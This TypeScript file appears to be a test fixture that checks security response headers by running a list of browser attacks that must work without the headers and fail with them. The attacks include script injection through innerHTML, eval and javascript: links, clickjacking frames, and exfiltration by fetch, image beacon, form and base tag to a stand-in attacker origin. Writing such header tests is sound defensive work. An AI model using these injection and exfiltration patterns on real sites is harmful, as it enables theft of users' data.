/** The tools that an attack gets in its page. */
interface Tools {
  /** Origin of the attacker. */
  evil: string;
  /** Returns the address of the attacked page, or of a file next to it. */
  target: (file: string) => string;
  tell: (outcome: 'fired' | 'blocked') => void;
}

interface Attack {
  name: string;
  /** Runs in the browser as the text of a script, so it can't use anything in this file. */
  run: (tools: Tools) => unknown;
  /**
   * Where the script runs. Absent: in the attacked page, like a bug or a malicious package. `evil`: in a page of the
   * attacker.
   */
  from?: 'evil';
  /** More markup for the attacked page. */
  markup?: string;
}

/** Each attack must succeed without the response headers, to prove that it is real, and fail with them. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'markup in a text that is put into the page',
    run: () => Object.assign(document.body, { innerHTML: `<img src="data:," onerror="document.title = 'fired'">` }),
  },
  { name: 'a text that is evaluated', run: () => eval("document.title = 'fired'") as unknown },
  {
    name: 'a javascript: link',
    run: () => Object.assign(document.createElement('a'), { href: "javascript:document.title = 'fired'; 1" }).click(),
  },
  {
    name: 'a document that is really a web page',
    run: ({ tell }) => {
      const page = new Blob(["<script>opener.document.title = 'fired'</script>"], { type: 'text/html' });
      const opened = window.open(URL.createObjectURL(page));
      const timer = setInterval(() => {
        if (opened?.location.protocol !== 'blob:' || opened.document.readyState !== 'complete') return;
        clearInterval(timer);
        tell('blocked');
      }, 20);
    },
  },
  {
    name: 'a script from elsewhere',
    run: ({ evil }) =>
      document.head.append(Object.assign(document.createElement('script'), { src: `${evil}/fire.js` })),
  },
  {
    name: 'a file served as text that is used as a script',
    markup: '<script src="fire.txt"></script>',
    run: ({ tell }) => window.addEventListener('load', () => tell('blocked')),
  },
  {
    name: 'a service worker that stays',
    run: ({ target, tell }) =>
      navigator.serviceWorker.register(target('worker.js')).then(
        () => tell('fired'),
        () => tell('blocked'),
      ),
  },
  {
    name: 'a style that hides or imitates',
    run: ({ tell }) => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { opacity: 0.5 }' }));
      tell(getComputedStyle(document.body).opacity === '0.5' ? 'fired' : 'blocked');
    },
  },
  {
    name: 'data sent away by fetch',
    run: ({ evil, tell }) =>
      fetch(`${evil}/loot`, { method: 'POST', mode: 'no-cors', body: 'secret' }).then(
        () => tell('fired'),
        () => tell('blocked'),
      ),
  },
  {
    name: 'data sent away as the address of a picture',
    run: ({ evil, tell }) => {
      const picture = Object.assign(new Image(), { src: `${evil}/loot.svg?secret` });
      picture.onload = () => tell('fired');
      picture.onerror = () => tell('blocked');
    },
  },
  {
    name: 'data sent away in a form',
    run: ({ evil }) => {
      // Submits into its own window, because a refused submission would leave this page loading forever.
      const [action, method, target] = [`${evil}/thanks`, 'post', 'thanks'];
      const form = Object.assign(document.createElement('form'), { action, method, target });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'a base that bends relative addresses',
    run: ({ evil, tell }) => {
      document.head.append(Object.assign(document.createElement('base'), { href: evil }));
      tell(document.baseURI.startsWith(evil) ? 'fired' : 'blocked');
    },
  },
  {
    name: 'the address of this page passed to the next one',
    run: ({ evil }) => Object.assign(document.createElement('a'), { href: `${evil}/referrer` }).click(),
  },
  {
    name: 'the place where the reader is',
    run: ({ tell }) =>
      navigator.geolocation.getCurrentPosition(
        () => tell('fired'),
        () => tell('blocked'),
      ),
  },
  {
    name: 'a frame around the page, to steal clicks',
    from: 'evil',
    run: ({ target, tell }) => {
      const frame = Object.assign(document.createElement('iframe'), { src: target('page') });
      frame.onload = () => tell('blocked');
      document.body.append(frame);
    },
  },
  {
    name: 'a window that keeps hold of the page it opened',
    from: 'evil',
    run: ({ target, tell }) => {
      const opened = window.open(target('page'));
      const timer = setInterval(() => {
        if (opened?.closed !== true) return;
        clearInterval(timer);
        tell('blocked');
      }, 20);
    },
  },
];
